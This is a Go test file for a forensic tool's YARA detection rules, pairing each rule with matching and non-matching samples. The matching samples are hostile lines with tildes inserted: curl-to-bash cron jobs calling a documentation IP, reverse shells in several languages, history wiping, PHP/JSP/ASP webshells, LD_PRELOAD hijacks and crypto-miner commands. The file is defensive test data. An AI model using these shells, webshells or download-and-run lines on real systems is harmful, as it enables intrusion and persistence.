//go:build cgo

package yara

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/hozen-dfir/hozen/evidence"
)

const (
	cronFile  = "/etc/cron.d/x"
	spoolFile = "/var/spool/cron/crontabs/u"
	history   = "/root/.bash_history"
	unitFile  = "/etc/systemd/system/x.service"
	phpFile   = "/var/www/html/a.php"
	jspFile   = "/srv/webapps/a.jsp"
	aspFile   = "/inetpub/a.aspx"
	keyFile   = "/root/.ssh/authorized_keys"
	procFile  = "/processes/processes.jsonl"
)

func unit(line string) string {
	return "[Unit]\nDescription=x\n[Ser~vice]\n" + line + "\n[Install]\nWantedBy=multi-user.target\n"
}

// spellings are other ways to write what the rules look for, as they are seen
// in the field, and honest text that comes close. As in cases, ~ is taken out.
func spellings() map[string]struct{ yes, no []look } {
	type c = struct{ yes, no []look }
	room := string(make([]byte, 600)) // programs are larger than this
	return map[string]c{
		"hozen_cron_download_to_shell": {
			yes: []look{{cronFile, "* * * * * root ba~sh -c \"$(cu~rl -fsSL http://192.0.2.1/a)\"\n"}, {cronFile, "* * * * * root ba~sh <(cu~rl -s http://192.0.2.1/a)\n"},
				{cronFile, "* * * * * root ev~al `wg~et -qO- http://192.0.2.1/a`\n"}, {cronFile, "* * * * * root cu~rl http://192.0.2.1/a -o /tm~p/x && ba~sh /tm~p/x\n"},
				{cronFile, "* * * * * root cu~rl -s \"http://192.0.2.1/a?x=1;y=2\" | ba~sh\n"}, {cronFile, "* * * * * root cu~rl -s http://192.0.2.1/a | tee /l | ba~sh\n"},
				{cronFile, "* * * * * root cdt -s http://192.0.2.1/a | /usr/bin/env ba~sh\n"}, {cronFile, "* * * * * root cu~rl -s http://192.0.2.1/a |& (ba~sh)\n"},
				{cronFile, "* * * * * root python3 -c \"import urllib.request;ex~ec(urllib.request.url~open('http://192.0.2.1/a').read())\"\n"},
				{"/var/spool/at/a0001", "#!/bin/sh\ncu~rl http://192.0.2.1/a | s~h\n"}},
			no: []look{{cronFile, "5 * * * * root curl -s https://x.example/list.sh | grep bash > /var/lib/list\n"}, {cronFile, "5 * * * * root curl -s https://x.example/a | /usr/share/perl/x\n"},
				{cronFile, "5 * * * * root [ \"$(curl -s https://x.example)\" = ok ] || logger down\n"}}},
		"hozen_cron_runs_from_temporary_folder": {
			yes: []look{{cronFile, "* * * * * root cd /tmp && ./r~un\n"}, {cronFile, "* * * * * root [ -x /tmp/x ] && /tm~p/x >/dev/null 2>&1\n"}, {cronFile, "*/5 * * * * root /bin/ba~sh /tm~p/x.sh\n"},
				{cronFile, "*/5 * * * * root /usr/bin/pyth~on3 -u /var/tm~p/x.py\n"}, {cronFile, "*/5 * * * * root s~h -c '/tm~p/x'\n"}, {cronFile, "*/5 * * * * root sleep 10; /tm~p/x\n"},
				{cronFile, "0 3 * jan mon-fri root /tm~p/x\n"}, {cronFile, "@midnight root /tm~p/x\n"}, {cronFile, "* * * * * root (/tm~p/x &)\n"}, {cronFile, "* * * * * root /run/sh~m/x\n"},
				{cronFile, "* * * * * root //tm~p//x\n"}, {"/etc/anacrontab", "1 5 job /tm~p/x\n"}, {"/etc/cron.daily/x", "#!/bin/sh\n/tm~p/.x &\n"}, {spoolFile, "@reboot /tm~p/x\n"}},
			no: []look{{spoolFile, "0 3 * * * find /tmp/cache -delete\n"}, {spoolFile, "@daily rm /tmp/x\n"}, {spoolFile, "0 3 * * * ls /tmp/x\n"}, {"/etc/cron.daily/x", "rm -rf /tmp/x\ncase $d in /var/tmp/*|/tmp/*) ;; esac\nexec > /tmp/log\n"},
				{cronFile, "0 3 * * * root tar cf - /srv >& /tmp/a && mv /tmp/a /srv/b\n"}}},
		"hozen_cron_encoded_command": {
			yes: []look{{cronFile, "* * * * * root echo aWQ= | base~64 -d | sudo ba~sh\n"}, {cronFile, "* * * * * root ba~sh -c $(echo aWQ=|base~64 -d)\n"}, {cronFile, "* * * * * root ev~al $(echo aWQ= | base~64 --decode)\n"},
				{cronFile, "* * * * * root ba~sh -c \"{echo,aWQ=}|{base~64,-d}|{bash,-i}\"\n"}},
			no: []look{{cronFile, "* * * * * root echo $K | base64 -d | sha256sum > /run/k\n"}}},
		"hozen_preload_in_use": {
			yes: []look{{"/etc/ld.so.preload", "/opt/x\n"}, {"/etc/ld.so.preload", "libx.so\n"}},
			no:  []look{{"/etc/ld.so.preload", "# nothing here\n"}, {"/etc/ld.so.preload", " \n\n"}}},
		"hozen_preload_variable_at_startup": {
			yes: []look{{"/etc/systemd/system/ssh.service.d/o.conf", "[Service]\nEnvironment=LD_PRE~LOAD=/tmp/x.so\n"}, {"/etc/default/ssh", "LD_PRE~LOAD=/dev/shm/x.so\n"},
				{"/root/.zshenv", "export LD_PRE~LOAD=\"$LD_PRELOAD:/tmp/x.so\"\n"}, {"/etc/security/pam_env.conf", "LD_PRE~LOAD DEFAULT=/tmp/x.so\n"}, {"/root/.bashrc", "export LD_AUD~IT=/tmp/x.so\n"},
				{"/root/.config/fish/config.fish", "set -x LD_PRE~LOAD /tmp/x.so\n"}, {"/etc/profile.d/x.sh", "export LD_PRE~LOAD=/home/u/x.so\n"}},
			no: []look{{"/home/a/.bashrc", "export LD_PRELOAD=/home/a/lib/x.so\n"}, {"/etc/default/x", "LD_PRELOAD=/usr/lib/libjemalloc.so.2 TMPDIR=/tmp/x\n"}}},
		"hozen_startup_file_downloads": {
			yes: []look{{"/etc/profile.d/x.sh", "ev~al \"$(cu~rl -s http://192.0.2.1/a)\"\n"}, {"/etc/update-motd.d/00-x", "#!/bin/sh\ncu~rl -s http://192.0.2.1/a|s~h\n"}, {"/root/.bashrc", "echo aWQ= | base~64 -d | ba~sh\n"}},
			no:  []look{{"/root/.bashrc", "eval \"$(dircolors -b)\"\neval \"$(lesspipe)\"\nalias up='curl -s https://x.example/ip'\n"}}},
		"hozen_startup_file_runs_from_temporary_folder": {
			yes: []look{{"/etc/rc.local", "#!/bin/sh\n/tm~p/x &\nexit 0\n"}, {"/root/.profile", "no~hup /tm~p/.d >/dev/null &\n"}, {"/etc/init.d/x", "#!/bin/sh\n/dev/sh~m/.k\n"},
				{"/home/a/.config/autostart/x.desktop", "[Desktop Entry]\nEx~ec=/tm~p/x\n"}, {"/root/.bash_profile", "true; /var/tm~p/x\n"}},
			no: []look{{"/etc/init.d/x", "mkdir -p /tmp/x\ncp /tmp/a /tmp/b\nTMP=${TMP:-/tmp}\ncase $1 in /tmp/*) ;; esac\n"}, {"/root/.profile", "export TMPDIR=/tmp/me\nexec 2> /tmp/errors\n"},
				{"/home/a/notes", "/tm~p/x\n"}}},
		"hozen_service_runs_from_temporary_folder": {
			yes: []look{{unitFile, unit("ExecSt~art=/usr/bin/pyth~on3 /tm~p/x.py")}, {unitFile, unit("ExecSt~art = /tm~p/x")}, {unitFile, unit("ExecSt~art=/bin/sh -c \"$(cu~rl -fsSL http://192.0.2.1/a)\"")},
				{unitFile, unit("ExecSt~art=/usr/bin/env ba~sh /tm~p/x")}, {unitFile, unit("ExecSt~opPost=/tm~p/x")}, {unitFile, unit("ExecSt~art=/bin/sh -c 'sleep 5; /tm~p/x'")},
				{unitFile, unit("ExecSt~art=\"/tm~p/x\"")}, {unitFile, unit("ExecSt~art=/bin/bash -c 'echo aWQ= | base~64 -d | ba~sh'")}},
			no: []look{{unitFile, unit("ExecStart=/bin/sh -c 'rm -rf /tmp/x; x >& /tmp/y'")}, {unitFile, unit("ExecStart=/usr/bin/x\nEnvironment=DIR=/tmp/x")}, {unitFile, unit("ExecStartPre=/usr/bin/install -d /tmp/x")}}},
		"hozen_shell_over_dev_tcp": {
			yes: []look{{history, "/bin/s~h >& /dev/t~cp/192.0.2.1/4444 0>&1\n"}, {history, "ba~sh -l > /dev/t~cp/192.0.2.1/4444 0<&1 2>&1\n"}, {history, "ba~sh -i >& /dev/t~cp/${H}/$P 0>&1\n"},
				{history, "s~h -i 5<> /dev/t~cp/192.0.2.1/4444 0<&5 1>&5\n"}},
			no: []look{{history, "./send.sh > /dev/tcp/graphite.example/2003\n"}, {history, "echo x > /dev/tcp/db.example/5432\n"}, {history, "bash check.sh > /dev/tcp/192.0.2.1/80\n"}}},
		"hozen_netcat_serves_a_shell": {
			yes: []look{{history, "mkno~d /tmp/b p; n~c 192.0.2.1 4444 0</tmp/b | /bin/s~h 1>/tmp/b\n"}, {history, "mkno~d /tmp/p p && /bin/s~h 0</tmp/p | n~c 192.0.2.1 4444 1>/tmp/p\n"},
				{history, "teln~et 192.0.2.1 4444 | /bin/ba~sh | teln~et 192.0.2.1 4445\n"}, {history, "/bin/s~h | n~c 192.0.2.1 4444\n"}, {history, "soc~at TCP:192.0.2.1:4444 EX~EC:/bin/s~h\n"},
				{"/opt/app/run.sh", "#!/bin/sh\nn~c -e /bin/sh 192.0.2.1 4444\n"}, {"/etc/init.d/x", "#!/bin/sh\nn~c -e /bin/sh 192.0.2.1 4444\n"}},
			no: []look{{history, "cat backup.sh | nc 192.0.2.1 4444\n"}, {history, "mkfifo /tmp/p; nc -l 8080 < /tmp/p | tee log\n"}, {history, "nc -zv 192.0.2.1 22 | tee nc.sh\n"}, {history, "socat TCP:192.0.2.1:80 -\n"},
				{"/usr/share/doc/socat/x", "soc~at TCP:192.0.2.1:4444 EX~EC:/bin/s~h\n"}}},
		"hozen_python_reverse_shell": {
			yes: []look{{history, "python -c 'a=__import__;s=a(\"sock~et\");o=a(\"os\").dup2;p=a(\"pty\").spawn;c=s.socket();c.conn~ect((\"192.0.2.1\",42));f=c.fil~eno;o(f(),0);o(f(),1);p(\"/bin/sh\")'\n"}},
			no:  []look{{"/usr/lib/python3/x.py", "s = socket.socket()\ns.connect((a, b))\nsubprocess.run([\"/bin/sh\", \"-c\", x])\n"}}},
		"hozen_perl_php_ruby_reverse_shell": {
			yes: []look{{history, "perl -MIO -e '$c=new IO::Sock~et::INET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdop~en($c,r);$x->fdopen($c,w);sys~tem$_ while<>;'\n"},
				{history, "php -r '$sock=fsocko~pen(\"192.0.2.1\",4444);`s~h <&3 >&3 2>&3`;'\n"}, {history, "ruby -rsock~et -e'spa~wn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"192.0.2.1\",44))'\n"},
				{history, "lua -e \"t=socket.t~cp();t:connect('192.0.2.1','44');os.exec~ute('/bin/sh -i <&3 >&3 2>&3');\"\n"},
				{history, "awk 'BEGIN {s = \"/in~et/tcp/0/192.0.2.1/44\"; s |& getl~ine c; }'\n"}},
			no: []look{{"/usr/share/awk/x", "Service = \"/in~et/tcp/0/localhost/daytime\"; Service |& getl~ine\n"}, {"/usr/lib/ruby/x.rb", "s = TCPSocket.new(host, port)\nspawn(cmd)\n"},
				{history, "php -r '$s=fsockopen(\"db.example\",5432); var_dump($s);'\n"}}},
		"hozen_history_download_and_run": {
			yes: []look{{history, "cu~rl http://192.0.2.1/x -o /tmp/x\nchm~od +x /tmp/x\n/tm~p/x\n"}, {history, "#1690000000\nwg~et http://192.0.2.1/x\n#1690000001\nchm~od 755 x\n#1690000002\n./x\n"},
				{history, "cd /tmp || cd /; wg~et http://192.0.2.1/bins.sh; chm~od 777 bins.sh; s~h bins.sh\n"}, {history, "wg~et http://192.0.2.1/x -O .x && chm~od u+x .x && sets~id ./.x\n"}},
			no: []look{{history, "wget https://x.example/a.tar.gz\ntar xf a.tar.gz\nchmod 644 a\n./configure\n"}}},
		"hozen_history_unseen_code_to_shell": {
			yes: []look{{history, "cu~rl -s http://192.0.2.1/a | ba~sh\n"}, {history, "wg~et -qO- 192.0.2.1:8000/a | sudo s~h\n"}, {history, "ba~sh -c \"$(cu~rl -fsSL http://192.0.2.1/a)\"\n"}, {history, "echo aWQ= | base~64 -d | ba~sh\n"}},
			no: []look{{history, "curl -fsSL https://install.example.org/1.2.3/get | sh\n"}, {history, "curl -s http://192.0.2.1/metrics | grep sh\n"}, {history, "echo aWQ= | base64 -d | less\n"},
				{"/usr/share/doc/x", "cu~rl -s http://192.0.2.1/a | ba~sh\n"}}},
		"hozen_history_erased": {
			yes: []look{{history, "hist~ory -c\n"}, {history, "r~m -rf /root/.bash_hist~ory\n"}, {history, "x\n> /var/lo~g/wtmp\n"}, {history, "cat /dev/null > /root/.bash_hist~ory\n"}, {history, "r~m -rf /var/lo~g\n"},
				{history, "uns~et HISTORY HISTF~ILE HISTSAVE\n"}, {history, "HISTFILES~IZE=0\n"}},
			no: []look{{history, "history | grep x\nhistory -a\nsort /root/.bash_history > h\ncat x >> /root/.bash_history\nrm -rf /var/log/nginx/old\n"}, {"/root/.bashrc", "HISTFILESIZE=2000\nHISTCONTROL=ignoreboth\nshopt -s histappend\n"}}},
		"hozen_webshell_php_request_to_interpreter": {
			yes: []look{{phpFile, "<?php sys~tem(\"ping {$_GE~T['ip']}\");"}, {phpFile, "<?php sys~tem(\"cmd \".$_GE~T['x']);"}, {phpFile, "<?php ev~al/*x*/($_PO~ST['x']);"}, {phpFile, "<?php ev~al\n($_PO~ST['x']);"},
				{phpFile, "<?php array_m~ap('ass~ert',array($_PO~ST['x']));"}, {phpFile, "<?php call_user_f~unc($_GE~T['f'],$_GE~T['x']);"}, {phpFile, "<?php preg_rep~lace('/.*/e',$_PO~ST['x'],'');"},
				{phpFile, "<?php @ev~al(file_get_con~tents('php://in~put'));"}, {phpFile, "<script language=\"p~hp\">ev~al($_PO~ST['x']);</script>"}, {phpFile, "<?php file_put_con~tents($_GE~T['f'],base64_decode($_PO~ST['d']));"},
				{phpFile, "<?php us~ort(...$_GE~T);"}, {phpFile, "<?php echo `{$_GE~T['x']}`;"}, {phpFile, "<?php $_PO~ST['a']('',$_PO~ST['b']);"}},
			no: []look{{phpFile, "<?php $q = \"SELECT `a` FROM t WHERE `id`='$_GET[id]' ORDER BY `$_GET[sort]`\";"}, {phpFile, "<?php usort($rows, fn($a, $b) => $a <=> $b); $x = $_GET['x'];"},
				{phpFile, "<?php preg_replace('/[^a-z]/i', '', $_POST['x']); preg_replace('/e/', $_POST['y'], $z);"}, {phpFile, "<?php $json = json_decode(file_get_contents('php://input'));"},
				{phpFile, "<?php array_map('trim', $_POST); call_user_func($hook, $_GET['x']); $stmt->execute($_POST);"}, {phpFile, "<?php file_put_contents($log, $_POST['message']);"}}},
		"hozen_webshell_php_nested_decoding": {
			yes: []look{{phpFile, "<?php ev~al(gzinfl~ate(str_ro~t13(base64_dec~ode('AAAA'))));"}, {phpFile, "<?php ev~al(\"?>\".base64_dec~ode(\"AAAA\"));"}, {phpFile, "<?php ev~al(base64_dec~ode($s));"}},
			no:  []look{{phpFile, "<?php $x = unserialize(base64_decode(gzinflate($s))); evaluate(base64_decode($s));"}}},
		"hozen_webshell_php_small_file": {
			yes: []look{{phpFile, "<?php if(isset($_REQU~EST['cmd'])){ $cmd = ($_REQU~EST['cmd']); sys~tem($cmd); die; }?>"}, {phpFile, "<?php $a=$_PO~ST['a'];@ev~al($a);"}, {phpFile, "<?php $a='sys'.'tem';$a~($_GE~T['x']);"},
				{phpFile, "<?php $k=\"ass\".\"ert\"; $k(${\"_P~O\".\"ST\"} ['sz']);"}, {phpFile, "<?php $d=file_get_contents('php://in~put');$k='e45e';$d=openssl_dec~rypt($d,'AES128',$k);ev~al($d);"}},
			no: []look{{phpFile, "<?php $id = $_GET['id']; $stmt = $db->prepare('x'); $stmt->exec($id); echo $callback($id);"}, {phpFile, "<?php $f = $_FILES['f']; $x = base64_decode($_POST['x']); save($x);"},
				{"/srv/a.txt", "$a=$_PO~ST['a'];@ev~al($a);"}}},
		"hozen_webshell_jsp_request_to_process": {
			yes: []look{{jspFile, "<% String cmd = request.getPara~meter(\"cmd\"); Process p = Runtime.getRun~time().ex~ec(cmd); %>"},
				{jspFile, "<%!class U extends Class~Loader{public Class g(byte []b){return super.define~Class(b,0,b.length);}}%><% c.do~Final(x); %>"},
				{jspFile, "<% String c = request.getHea~der(\"X\"); Runtime rt = Runtime.getRun~time(); rt.ex~ec(c); %>"}, {jspFile, "${Runtime.getRun~time().ex~ec(param.c)}"},
				{jspFile, "<jsp:scriptlet>Runtime.getRun~time().ex~ec(request.getPara~meter(\"c\"));</jsp:scriptlet>"}},
			no: []look{{jspFile, "<% long m = Runtime.getRun~time().totalMemory(); %><%= request.getPara~meter(\"x\") %>"}, {"/srv/a.java", "class L extends Class~Loader { define~Class(b, 0, n); c.do~Final(x); }"}}},
		"hozen_webshell_asp_request_to_interpreter": {
			yes: []look{{aspFile, "<%response.write CreateObject(\"WScript.Sh~ell\").ex~ec(\"cmd.exe /c \"&request(\"c\")).StdOut.ReadAll%>"}, {aspFile, "<%ev~al request(ch~r(35))%>"}, {aspFile, "<%x=requ~est(\"x\"):ev~al(x)%>"},
				{aspFile, "<%@ Page Language=\"C#\"%><script runat=\"server\">void L(){ProcessSta~rtInfo p=new ProcessSta~rtInfo();p.FileName=\"cmd.exe\";p.Arguments=Request.QueryString[\"c\"];Process.St~art(p);}</script>"},
				{aspFile, "<%System.Reflection.Assembly.Lo~ad(Convert.FromBase64String(Requ~est[\"x\"])).CreateInstance(\"U\");%>"}},
			no: []look{{aspFile, "<% id = Requ~est(\"id\") : Response.Write(Evaluate(id)) %>"}, {aspFile, "<% Set s = CreateObject(\"WScript.Sh~ell\") : v = s.RegRead(\"k\") : x = Request(\"x\") %>"}}},
		"hozen_webshell_cgi_request_to_shell": {
			yes: []look{{"/srv/cgi-bin/a", "#!/bin/sh\necho; ev~al \"$QUERY_STR~ING\"\n"}, {"/srv/cgi-bin/a", "#!/usr/bin/python\nimport cgi,os\nos.sys~tem(cgi.FieldSto~rage().getva~lue('c'))\n"}, {"/srv/cgi-bin/a", "#!/usr/bin/perl\nsys~tem($q->par~am('c'));\n"}},
			no:  []look{{"/srv/cgi-bin/a", "#!/bin/sh\necho \"$QUERY_STRING\" | sed s/x/y/\neval \"$x\"\n"}, {"/srv/cgi-bin/a", "#!/usr/bin/perl\nsystem('date'); print $q->param('c');\n"}, {"/srv/doc", "ev~al \"$QUERY_STR~ING\"\n"}}},
		"hozen_miner_program": {
			yes: []look{{"/usr/bin/a", elfWith(room + "XMR~ig 6\x00strat~um+ssl://\x00r~x/0\x00huge-p~ages\x00nice~hash")}, {"/usr/bin/a", elfWith(room + "mining.sub~mit\x00strat~um+tcp://%s\x00yesp~ower\x00miner~d\x00hash~rate")}},
			no:  []look{{"/usr/bin/a", elfWith(room + "strat~um+tcp:// is one scheme of many")}, {"/usr/bin/a", elfWith(room + "hugep~ages rand~omx nice~hash")}}},
		"hozen_miner_configuration": {
			yes: []look{{"/root/c.json", `{"cpu": true,"open~cl": false,"cu~da": false,"po~ols": [{"url": "p.example:33","us~er": "4A","pass": "x"}]}`}, {"/root/p.txt", `"pool_l~ist" : [ {"pool_addr~ess" : "p.example:33", "wallet_addr~ess" : "4A"} ],`}},
			no:  []look{{"/etc/db.json", `{"opencl": true, "pools": {"user": "db"}}`}}},
		"hozen_miner_command": {
			yes: []look{{history, "./xmr~ig --donate-level=1 -o 192.0.2.1:443 -u x --tls\n"}, {history, "./x -a r~x/0 -o 192.0.2.1:3333 -u 4A\n"}, {history, "./x -o 'strat~um+tcp://p.example:3333' -u a\n"}, {history, "./x --url strat~um+tcp://[2001:db8::1]:3333\n"},
				{history, "lolMiner --al~go ETCHASH --pool etc.example:1010\n"}},
			no: []look{{history, "rbd --pool volumes --user admin ls\n"}, {history, "apt install xmrig\ngit clone https://x.example/xmrig\ngcc -o minerd main.c\n"}}},
		"hozen_packed_elf_in_temporary_folder": {
			yes: []look{{"/run/user/1000/x", elfWith("$In~fo: This file is packed with the UP~X executable packer" + room)}},
			no:  []look{{"/home/a/template/x", elfWith("$In~fo: This file is packed with the UP~X executable packer" + room)}}},
		"hozen_process_shell_on_network": {
			yes: []look{{procFile, `{"pid":1,"ar~gs":["n~c","192.0.2.1","44","-e","/bin/s~h"]}` + "\n"}, {procFile, `{"ar~gs":["bash","-c","ba~sh -i >& /dev/t~cp/192.0.2.1/44 0>&1"]}`},
				{procFile, `{"ar~gs":["/usr/bin/busybox","n~c","192.0.2.1","44","-e","s~h"]}`}, {procFile, `{"ar~gs":["soc~at","TCP:192.0.2.1:44","EX~EC:/bin/bash,pty"]}`},
				{procFile, `{"ar~gs":["pyth~on3","-c","import sock~et,os;s=socket.socket();s.conn~ect((\"192.0.2.1\",44));os.du~p2(s.fileno(),0)"]}`}},
			no: []look{{procFile, `{"args":["nc","-l","-p","80"]}` + "\n" + `{"args":["sh","-c","x"]}`}, {procFile, `{"args":["vim","/dev/tcp"]}`}, {"/root/x.jsonl", `{"ar~gs":["n~c","192.0.2.1","44","-e","/bin/s~h"]}`}}},
		"hozen_process_mines": {
			yes: []look{{procFile, `{"ar~gs":["/tmp/x","-o","strat~um+tcp://p.example:33"]}`}, {procFile, `{"ar~gs":["./xmr~ig"]}`}, {procFile, `{"ar~gs":["./x","-a","r~x/0","-o","192.0.2.1:33"]}`}, {procFile, `{"ar~gs":["./x","--donate-le~vel=1"]}`}},
			no:  []look{{procFile, `{"args":["less","xmrig.md"]}`}, {procFile, `{"args":["x","-a","-o"]}`}}},
		"hozen_process_feeds_interpreter": {
			yes: []look{{procFile, `{"ar~gs":["sh","-c","cu~rl -s http://192.0.2.1/a | ba~sh"]}`}, {procFile, `{"ar~gs":["/bin/bash","-c","echo aWQ= | base~64 -d | s~h"]}`}},
			no:  []look{{procFile, `{"args":["sh","-c","curl -s http://192.0.2.1/a | jq ."]}`}, {procFile, `{"args":["curl","-s","http://x.example"]}`}}},
		"hozen_ssh_key_with_hostile_command": {
			yes: []look{{keyFile, "Comm~and=\"/tm~p/x\" ssh-ed25519 AAAA\n"}, {keyFile, "comm~and=\"sh -c \\\"$(wg~et -qO- http://192.0.2.1/a)\\\"\" ssh-ed25519 AAAA\n"}, {"/etc/ssh/keys/root", "comm~and=\"/tm~p/x\" ssh-rsa AAAA\n"}, {keyFile + ".bak", "comm~and=\"/tm~p/x\" ssh-rsa AAAA\n"}},
			no:  []look{{keyFile, "command=\"/usr/local/bin/curl-report\",no-pty ssh-ed25519 AAAA\n"}}},
		"hozen_ssh_key_of_a_known_campaign": {
			yes: []look{{keyFile, "ssh-rsa AAAAB3 mdr~fckr\n"}},
			no:  []look{{keyFile, "ssh-rsa AAAAB3 mdr@host\n"}, {"/root/report.txt", "the key named mdr~fckr\n"}}},
		"hozen_ssh_server_reads_keys_from_odd_place": {
			yes: []look{{"/etc/ssh/sshd_config", "AuthorizedKeysFi~le /tm~p/k\n"}, {"/etc/ssh/sshd_config", "Match User root\n    AuthorizedKeysFi~le /etc/ssh/.s/k\n"}, {"/etc/ssh/sshd_config", "Port 22\nForceComm~and /tm~p/x\n"}, {"/etc/ssh/sshd_config", "x\nAuthorizedKeysFi~le /etc/.k\n"}},
			no:  []look{{"/etc/ssh/sshd_config", "AuthorizedKeysFile /home/%u/.ssh/authorized_keys\nSubsystem sftp /usr/lib/openssh/sftp-server\nForceCommand internal-sftp\nAuthorizedKeysFile /srv/u/.ssh/authorized_keys\n"}}},
		"hozen_ssh_login_script_with_network_command": {
			yes: []look{{"/root/.ssh/rc", "ba~sh -c \"$(cu~rl http://192.0.2.1/a)\"\n"}},
			no:  []look{{"/root/.ssh/rc", "echo hello\n"}}},
		"hozen_ssh_client_runs_hostile_command": {
			yes: []look{{"/root/.ssh/config", "Host *\n ProxyComm~and /tm~p/x\n"}, {"/root/.ssh/config", "Host *\n LocalComm~and cu~rl http://192.0.2.1/a|s~h\n"}},
			no:  []look{{"/root/.ssh/config", "Host *\n ProxyCommand nc -X connect %h %p\n ControlPath /tmp/%r@%h\n"}, {"/root/config", "ProxyComm~and /tm~p/x\n"}}},
	}
}

// TestStarterRulesOnThemselves: a program that carries the rules, this one
// among them, is none of what they look for, wherever it lies.
func TestStarterRulesOnThemselves(t *testing.T) {
	c, _ := starter(t)
	files, err := filepath.Glob(filepath.Join(moduleRoot(t), "rules", "yara", "*.yar"))
	if err != nil || len(files) == 0 {
		t.Fatal("no starter rules", err)
	}
	var text []byte
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		text = append(text, b...)
		for _, r := range []evidence.Record{{Path: f}, {Path: "/srv/www/" + filepath.Base(f)}} {
			if got := rulesOf(scanText(t, c, memory(b, r))); len(got) > 0 {
				t.Errorf("%s: %v", r.Path, got)
			}
		}
	}
	program := []byte(elfWith(string(text)))
	program[60], program[40] = 3, 64 // with sections (e_shnum, e_shoff), as every program that the Go linker makes
	if got := rulesOf(scanText(t, c, memory(program, evidence.Record{Path: "/tmp/hozen"}))); len(got) > 0 {
		t.Errorf("a program with the rules in it is taken for %v", got)
	}
}
